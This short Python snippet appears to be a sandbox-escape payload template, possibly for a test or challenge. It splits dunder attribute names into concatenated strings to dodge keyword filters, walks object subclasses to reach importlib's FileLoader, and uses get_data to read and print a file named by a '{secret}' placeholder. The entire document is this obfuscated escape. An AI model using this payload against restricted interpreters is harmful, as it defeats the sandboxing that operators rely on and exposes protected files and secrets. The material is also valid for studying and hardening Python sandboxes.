name = "__cla" + "ss__"
base = getattr(getattr((), name), "__ba" + "se__")
for c in getattr(base, "__subclas" + "ses__")():
    if c.__name__ == "FileLoader":
        print(getattr(c, "get_data")(None, "{secret}"))
